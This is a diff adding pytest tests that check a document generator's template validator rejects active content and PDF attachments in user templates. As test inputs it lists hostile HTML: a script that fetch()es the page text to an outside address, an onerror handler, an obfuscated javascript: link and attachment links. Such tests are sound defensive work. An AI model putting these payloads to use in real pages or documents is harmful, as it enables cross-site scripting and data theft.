@@ -307,3 +307,40 @@ def test_a_template_reaches_no_python_internals(project_from):
     )
     result = invoke(project, "validate")
     assert result.exit_code == 1 and "unsafe" in result.output, result.output
+
+
+@pytest.mark.parametrize(
+    "body, what",
+    [
+        ("<script>fetch('https://example.org/?' + document.body.innerText)</script>", "a <script>"),
+        ('<img src="x.png" alt="" onerror="alert(1)">', "an event handler (onerror=…)"),
+        ('<a href="java&#x09;script:alert(1)">x</a>', "a javascript: address"),
+        ('<link rel="attachment" href="data:text/plain,secret">', "a file attached to the PDF"),
+        ('<a rel="nofollow ATTACHMENT" href="default:report.html.j2">x</a>', "a file attached"),
+    ],
+)
+def test_a_template_may_put_no_script_or_attachment_in_a_document(project_from, body, what):
+    project = project_from()
+    project.templates_dir.mkdir()
+    (project.templates_dir / "press-release.html.j2").write_text(
+        '{% extends "default:press-release.html.j2" %}\n{% block body %}{{ super() }}\n'
+        + body
+        + "\n{% endblock %}\n"
+    )
+    result = invoke(project, "validate")
+    assert result.exit_code == 1
+    assert f"templates/press-release.html.j2:3:1: template: the document would hold {what}" in (
+        result.output
+    ), result.output
+    assert "templates may not put scripts or attachments in a document" in result.output
+    built = invoke(project, "press-release", "essex")
+    assert built.exit_code == 1 and not (project.build_dir / "essex").exists()
+
+
+def test_the_built_in_templates_make_inert_documents(essex_build, welsh_build):
+    from ncpi.render.inert import active_content
+
+    for built in (essex_build, welsh_build):
+        for name, path in built.items():
+            if name.endswith(".html"):
+                assert active_content(path.read_text("utf-8")) == [], name
